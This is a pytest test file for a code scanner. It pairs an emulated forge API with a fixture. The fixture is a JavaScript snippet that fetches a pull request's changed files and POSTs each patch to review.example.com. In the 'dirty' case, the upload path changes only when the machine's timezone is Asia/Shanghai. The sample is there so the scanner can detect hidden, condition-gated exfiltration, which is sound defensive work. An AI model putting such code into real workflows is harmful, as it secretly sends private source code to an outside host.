"""Programs that read a change from the forge: the forge answers with one."""

from pathlib import Path

import pytest

from scanner.world.dialect import reply
from tests.emulate.trying import emulated, seen

REVIEW = """
const api = process.env.GITHUB_API_URL ?? "https://api.github.com", fs = require("node:fs");
const event = JSON.parse(fs.readFileSync(process.env.GITHUB_EVENT_PATH, "utf8"));
const far = Intl.DateTimeFormat().resolvedOptions().timeZone === "Asia/Shanghai";
(async () => {
  const files = await (await fetch(`${api}/repos/${process.env.GITHUB_REPOSITORY}/pulls/${event.number}/files?per_page=100`)).json();
  for (const { patch, filename } of files) {
    await fetch("https://review.example.com/" + (WHERE), { method: "POST", body: JSON.stringify({ filename, patch }) });
  }
})();
"""


@pytest.mark.parametrize(("path", "expected"), [('far ? "v1/index" : "v1"', {("gate", "endpoint")}), ('"v1"', set())], ids=["dirty", "honest"])
def test_what_is_done_with_the_files_of_a_change_is_seen(tmp_path: Path, path: str, expected: set[tuple[str, str]]) -> None:
    """Bug: the forge's answer was no list, and programs that review changes ended there."""
    found = seen(emulated(tmp_path, {"main.js": REVIEW.replace("WHERE", path)}))
    assert {(one.form, one.carrier) for one in found if one.signals == ("timezone",)} == expected


@pytest.mark.parametrize(
    ("path", "start"),
    [
        ("/repos/team/project", '{"id": 1, "name": "project"'),
        ("/api/v3/repos/team/project/pulls/7/files", '[{"sha": '),
        ("/repos/team/project/pulls/7", '{"id": 1, "number": 1'),
        ("/repos/team/project/issues/7/comments", "[]"),
        ("/repos/team/project/compare/main...work", '{"status": "ahead"'),
        ("/repos/team/project/contents/src/index.js", '{"type": "file"'),
        ("/api/v4/projects/team%2Fproject/merge_requests/1/changes", '{"id": 1, "iid": 1'),
        ("/api/v4/projects/4/merge_requests/1/diffs", '[{"old_path"'),
        ("/v1/repos", '{"ok": true'),
        ("/repos/team/project/unknown", '{"ok": true'),
    ],
)
def test_a_forge_answers_questions_about_a_repository(path: str, start: str) -> None:
    assert reply("GET", f"https://api.github.com{path}", None).text.startswith(start)
    assert not reply("POST", f"https://api.github.com{path}", "{}").text.startswith(start)
